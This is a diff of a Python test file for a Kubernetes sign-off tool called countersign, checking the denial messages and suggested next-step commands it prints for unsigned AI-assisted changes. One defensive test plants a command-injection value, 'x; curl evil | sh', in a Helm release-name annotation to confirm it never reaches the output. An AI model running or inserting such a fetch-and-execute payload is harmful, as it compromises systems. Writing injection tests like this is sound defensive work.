@@ -7,7 +7,14 @@ import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from countersign.core.types.artifacts import Difference, ObjectRef
+from countersign.core.types.artifacts import Difference, ObjectRef, Tree
+from countersign.core.types.change import (
+    Access,
+    Deletion,
+    ObjectChange,
+    Operation,
+)
+from countersign.core.types.decision import Decision, Proposal
 from countersign.core.types.evidence import Assistance
 from countersign.core.types.policy import Enforcement
 from countersign.core.types.verdict import (
@@ -25,7 +32,26 @@ from countersign.core.types.verdict import (
 )
 from countersign.report.denial import MAX_DENIAL, denial, warnings
 from tests.support import a, findings
+from tests.support.decisions import denied
 from tests.support.findings import OPEN, finding
+
+ID = "01J8Z000000000000000000000"
+RECORDED = denied(
+    id=ID,
+    proposal=Proposal(
+        change=ObjectChange(
+            object=a.OBJECT, digest=a.MANIFEST, operation=Operation.CREATE_OR_UPDATE
+        ),
+        version="v1",
+    ),
+)
+UNSIGNABLE = denied(id=ID)
+OF_HELM: Tree = {
+    "metadata": {
+        "labels": {"app.kubernetes.io/managed-by": "Helm"},
+        "annotations": {"meta.helm.sh/release-name": "web"},
+    }
+}
 
 
 @dataclass(frozen=True)
@@ -33,18 +59,20 @@ class Asked:
     """A request, as far as a denial knows of it."""
 
     ref: ObjectRef = a.OBJECT
+    object: Tree | None = None
     dry_run: bool = False
 
 
 def deny(*found: Finding, **given: Any) -> str:
     """Say why."""
-    asked = Asked(**{k: given.pop(k) for k in ("ref", "dry_run") if k in given})
+    names = ("ref", "object", "dry_run")
+    asked = Asked(**{name: given.pop(name) for name in names if name in given})
     return denial(Verdict.of((), found), asked, "prod-eu", **given)
 
 
 def test_reads_as_designed() -> None:
     """The first line says it all; then what is missing, and the exact next step."""
-    text = deny(finding(Reason.SLOT_OPEN), decision="01J8Z0")
+    text = deny(finding(Reason.SLOT_OPEN), decision=RECORDED)
 
     assert text == (
         "payments/Deployment/ledger: an AI-assisted change without sign-offs by senior, "
@@ -53,10 +81,9 @@ def test_reads_as_designed() -> None:
         "attested by ci at 2026-11-22T12:00Z\n"
         "  missing: senior (0 of 1), service-owner (0 of 1); eligible now: dana, ravi; "
         "not eligible: lee (author)\n"
-        "  next: ask one of dana, ravi to run: countersign sign-off -f FILE "
-        "--cluster prod-eu --out SIGNED"
-        "    then: kubectl apply -f SIGNED\n"
-        "  decision 01J8Z0"
+        f"  next: ask one of dana, ravi to run: countersign sign-off --decision {ID}"
+        "    then apply again\n"
+        f"  decision {ID}; countersign explain {ID}"
     )
 
 
@@ -103,9 +130,10 @@ def test_an_article_fits_its_role() -> None:
 
 def test_a_dry_run_has_no_decision() -> None:
     """It leaves no record."""
-    assert "decision" not in deny(
-        finding(Reason.SLOT_OPEN), decision="01J8Z0", dry_run=True
-    )
+    text = deny(finding(Reason.SLOT_OPEN), decision=RECORDED, dry_run=True)
+
+    assert "decision" not in text
+    assert "countersign sign-off -f FILE --cluster prod-eu --out SIGNED" in text
 
 
 def test_nobody_to_ask_is_said() -> None:
@@ -266,7 +294,7 @@ def test_nothing_that_others_wrote_reaches_the_terminal_raw(facts: Facts) -> Non
     also = [finding(reason) for reason in Reason]
 
     text = deny(
-        finding(Reason.UNAVAILABLE, facts=facts), *also, ref=ref, decision="0" * 99
+        finding(Reason.UNAVAILABLE, facts=facts), *also, ref=ref, decision=RECORDED
     )
 
     assert "".join(text.split("\n")).isprintable()
@@ -330,3 +358,107 @@ def test_the_next_step_names_the_operation_that_is_asked(
 def test_a_deletion_can_be_signed() -> None:
     """And says how."""
     assert "--operation delete" in deny(finding(Reason.DELETION))
+
+
+def test_provenance_that_is_missing_comes_first() -> None:
+    """It travels beside the object: what is applied again is the same."""
+    facts = OpenSlots(open=("senior",), eligible=("dana",), authors=True)
+
+    step = deny(
+        finding(Reason.NO_EVIDENCE),
+        finding(Reason.SLOT_OPEN, facts=facts),
+        decision=RECORDED,
+    ).splitlines()[-2]
+
+    assert step == (
+        "  next: let CI attest it, and have it signed: countersign attest RANGE -f FILE "
+        "--cluster prod-eu --carrier bundleset --out EVIDENCE"
+        "    then: kubectl apply -f EVIDENCE"
+        f"    then ask dana to run: countersign sign-off --decision {ID}"
+        "    then apply again"
+    )
+
+
+def test_a_recorded_deletion_is_signed_by_its_decision() -> None:
+    """The uid is in it."""
+    change = Deletion(object=a.OBJECT, uid="u")
+    decision = denied(id=ID, proposal=Proposal(change=change, version="v1"))
+    facts = OpenSlots(open=("senior",), eligible=("dana",))
+
+    assert (
+        f"next: ask dana to run: countersign sign-off --decision {ID}"
+        "    then delete again\n"
+    ) in deny(finding(Reason.DELETION, facts=facts), decision=decision)
+
+
+def test_an_access_is_let_in_by_break_glass_alone() -> None:
+    """With what such a signature must say."""
+    change = Access(
+        object=a.OBJECT, uid="u", subresource="exec", operation=Operation.CONNECT
+    )
+    decision = denied(id=ID, proposal=Proposal(change=change, version="v1"))
+
+    text = deny(finding(Reason.SUBRESOURCE), decision=decision)
+
+    assert (
+        f"countersign sign-off --decision {ID} --break-glass --incident ID "
+        "--justification TEXT    then apply again"
+    ) in text
+
+
+@pytest.mark.parametrize(
+    ("decision", "reason"),
+    [
+        pytest.param(UNSIGNABLE, Reason.SLOT_OPEN, id="nothing to sign"),
+        pytest.param(RECORDED, Reason.IMAGE_UNPINNED, id="something else to sign"),
+        pytest.param(RECORDED, Reason.OWNER_UNPROVEN, id="another object to sign"),
+    ],
+)
+def test_a_decision_that_nobody_should_sign_is_only_named(
+    decision: Decision, reason: Reason
+) -> None:
+    """The step is on files."""
+    text = deny(finding(reason), decision=decision)
+
+    assert "--decision" not in text
+    assert text.endswith(f"  decision {ID}; countersign explain {ID}")
+
+
+def test_under_helm_the_whole_release_is_signed() -> None:
+    """Where no decision is at hand."""
+    facts = OpenSlots(open=("senior",), eligible=("dana",))
+
+    assert (
+        "ask dana to run: helm template web CHART -n payments | "
+        "countersign sign-off -f - --namespace payments --cluster prod-eu "
+        "--sets-only --out SIGNED"
+        "    then: kubectl apply -f SIGNED    then helm again"
+    ) in deny(finding(Reason.SLOT_OPEN, facts=facts), object=OF_HELM)
+
+
+def test_a_release_with_a_name_that_helm_does_not_give_is_none() -> None:
+    """Nobody pastes somebody else's commands into a shell."""
+    metadata: Tree = {
+        "labels": {"app.kubernetes.io/managed-by": "Helm"},
+        "annotations": {"meta.helm.sh/release-name": "x; curl evil | sh"},
+    }
+
+    assert "evil" not in deny(finding(Reason.SLOT_OPEN), object={"metadata": metadata})
+
+
+@pytest.mark.parametrize("tree", [None, OF_HELM], ids=["by hand", "by Helm"])
+@pytest.mark.parametrize("decision", [None, RECORDED], ids=["unrecorded", "recorded"])
+@pytest.mark.parametrize("head", findings.ALL, ids=lambda found: found.reason)
+def test_a_step_is_never_cut(
+    head: Finding, decision: Decision | None, tree: Tree | None
+) -> None:
+    """Half a command helps nobody; names of people and clusters are long."""
+    people = tuple(f"somebody.with.a.long.name.{n}@acme.example" for n in range(6))
+    slots = OpenSlots(open=("senior", "quality"), eligible=people, authors=True)
+    text = deny(
+        head, finding(Reason.SLOT_OPEN, facts=slots), decision=decision, object=tree
+    )
+    (step,) = [line for line in text.splitlines() if line.startswith("  next: ")]
+
+    assert len(text.encode()) <= MAX_DENIAL
+    assert not step.endswith("…")
